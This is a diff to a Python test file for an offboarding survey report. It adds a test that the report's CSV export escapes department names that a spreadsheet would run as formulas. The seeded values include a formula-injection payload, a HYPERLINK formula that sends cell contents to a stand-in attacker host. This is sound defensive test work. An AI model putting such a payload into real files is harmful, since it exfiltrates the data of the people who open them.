@@ -2,6 +2,8 @@
 OFFBOARDING_TEST_DATABASE_URL). Every test reports on its own quarter in its own year, so no test, nor
 any trend line, sees another test's cases or reports."""
 
+import csv
+import io
 from datetime import date, datetime, time, timedelta, timezone
 
 import pytest
@@ -319,3 +321,28 @@ async def test_the_csv_holds_aggregated_figures_only(sessions):
     assert "Tekst die niet" not in csv and "Sanne" not in csv and "offboarding-" not in csv
     mean = next(row for row in csv_rows(csv) if (row["section"], row["dimension"], row["measure"]) == ("ratings", "work_content", "mean"))
     assert (mean["value"], mean["base"], mean["suppressed"]) == ("4.0", "5", "")
+
+
+# The CSV in a spreadsheet.
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+31 Sales", "-2+3", "@SUM(A1:A9)", "\tTab Team", "\rCR Team"]
+
+
+async def test_no_csv_cell_a_spreadsheet_would_run_as_a_formula(sessions):
+    period = quarter(2006, 2)
+    for department in FORMULAS:
+        await seed(sessions, period, [record(rating=4) for _ in range(5)], department=department)
+
+    text = render_csv(await figures_for(sessions, period))
+
+    rows = list(csv.reader(io.StringIO(text)))
+    cells = [cell for row in rows for cell in row]
+    # Every department shows (departures and the breakdown), each time as text behind a single quote, never bare.
+    for department in FORMULAS:
+        assert "'" + department in cells and department not in cells, department
+    # No other cell starts like a formula, but for the numbers the report writes itself (a negative change).
+    for cell in cells:
+        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+            float(cell)
+    # And every such cell is quoted, so the quote prefix stays part of the text.
+    for department in FORMULAS:
+        assert '"' + ("'" + department).replace('"', '""') + '"' in text
